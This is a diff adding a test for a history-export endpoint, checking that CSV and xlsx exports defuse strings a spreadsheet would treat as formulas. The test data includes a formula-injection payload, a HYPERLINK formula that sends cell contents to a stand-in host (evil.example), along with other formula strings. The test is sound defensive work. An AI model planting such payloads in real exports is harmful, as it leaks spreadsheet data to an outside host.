@@ -244,6 +244,46 @@ describe('history export', () => {
     );
   });
 
+  it('defuses STRING values a spreadsheet would take for a formula, in CSV and xlsx; numbers stay numbers', async () => {
+    const d = await connectDevice(server, token, team.template.id);
+    const base = Date.now() + 120_000;
+    const link = '=HYPERLINK("https://evil.example/?"&A1,"open")';
+    const texts = [link, '\t=1+1', '@SUM(A1:A9)', 'plain'];
+    await d.data(
+      texts.map((text, i) => ({ ts: base + i, v: { [tags.recipe]: text, [tags.temp]: -5 }, hist: true })),
+    );
+    const q = `device_id=${d.id}&tag_ids=${tags.recipe},${tags.temp}&from=${base}&to=${base + 10}`;
+
+    const csv = await fetch(`${server.url}/v1/history/export?${q}&format=csv`, {
+      headers: { authorization: token },
+    });
+    const lines = (await csv.text()).trim().split('\r\n').slice(1);
+    const cells = lines.map((l) => l.slice(l.indexOf(',') + 1));
+    // In time order, then by tag id (temp before recipe).
+    expect(cells).toEqual([
+      `temp,${tags.temp},-5`,
+      `recipe,${tags.recipe},"'=HYPERLINK(""https://evil.example/?""&A1,""open"")"`,
+      `temp,${tags.temp},-5`,
+      `recipe,${tags.recipe},"'\t=1+1"`,
+      `temp,${tags.temp},-5`,
+      `recipe,${tags.recipe},"'@SUM(A1:A9)"`,
+      `temp,${tags.temp},-5`,
+      `recipe,${tags.recipe},plain`,
+    ]);
+
+    const xlsx = await fetch(`${server.url}/v1/history/export?${q}&format=xlsx`, {
+      headers: { authorization: token },
+    });
+    const book = new ExcelJS.Workbook();
+    await book.xlsx.load(await xlsx.arrayBuffer());
+    const values = book
+      .getWorksheet('history')!
+      .getRows(2, 8)!
+      .map((r) => r.getCell(4).value);
+    expect(values).toEqual([-5, `'${link}`, -5, "'\t=1+1", -5, "'@SUM(A1:A9)", -5, 'plain']);
+    await d.client.endAsync(true);
+  });
+
   it('writes xlsx up to 10,000 rows with local times, and answers 1035 beyond', async () => {
     const from = t0;
     const to = t0 + 20 * 60_000;
